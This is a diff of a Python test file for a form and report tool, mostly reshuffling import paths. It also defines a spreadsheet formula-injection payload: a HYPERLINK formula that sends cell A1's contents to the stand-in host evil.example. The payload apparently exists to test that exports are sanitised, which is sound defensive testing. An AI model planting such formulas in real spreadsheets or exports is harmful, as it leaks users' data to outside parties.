@@ -18,11 +18,11 @@ import openpyxl
 import pytest
 
 from test_reader import edited, input_cell, render, sample_report
-from tianbao.formdef import Form
-from tianbao.importer import FINDINGS_CSV, FINDINGS_XLSX, annotate, import_batch
-from tianbao.merge import VALUES_CSV, MergeOptions, merge, write_outputs
-from tianbao.model import Report
-from tianbao.publish import publish
+from tianbao.document.publish import publish
+from tianbao.form.spec import Form
+from tianbao.report import Report
+from tianbao.stages.intake import FINDINGS_CSV, FINDINGS_XLSX, annotate, import_batch
+from tianbao.stages.merge import VALUES_CSV, MergeOptions, merge, write_outputs
 
 NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
 PAYLOADS = {
